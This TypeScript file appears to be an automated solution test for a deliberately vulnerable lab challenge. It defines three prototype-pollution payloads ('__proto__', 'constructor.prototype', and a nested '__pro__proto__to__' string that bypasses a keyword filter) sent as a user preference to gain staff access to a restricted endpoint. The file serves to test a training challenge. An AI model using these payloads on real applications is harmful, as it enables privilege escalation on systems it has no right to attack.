import type { Attack, Tools } from '#lab'
import { knock, logInAsJim, send } from './steps.ts'

const CHALLENGE = 'badAppleChallenge'

const prefer =
  (wish: string) =>
  async (tools: Tools): Promise<void> => {
    const jim = await logInAsJim(tools)
    await send(tools, jim, wish)
    const status = await knock(tools, jim)
    tools.expect(status === 200, `the back room answered with ${status}`)
  }

export const attacks: Attack[] = [
  {
    challenge: CHALLENGE,
    name: 'a preference of the prototype',
    run: prefer('{"__proto__":{"isStaff":true}}'),
  },
  {
    challenge: CHALLENGE,
    name: 'the same by way of the constructor',
    run: prefer('{"constructor":{"prototype":{"isStaff":true}}}'),
  },
  {
    challenge: CHALLENGE,
    name: 'the word in itself, so that taking it out puts it together',
    run: prefer('{"__pro__proto__to__":{"isStaff":true},"straw":{"__proto__":{"isStaff":true}}}'),
  },
]
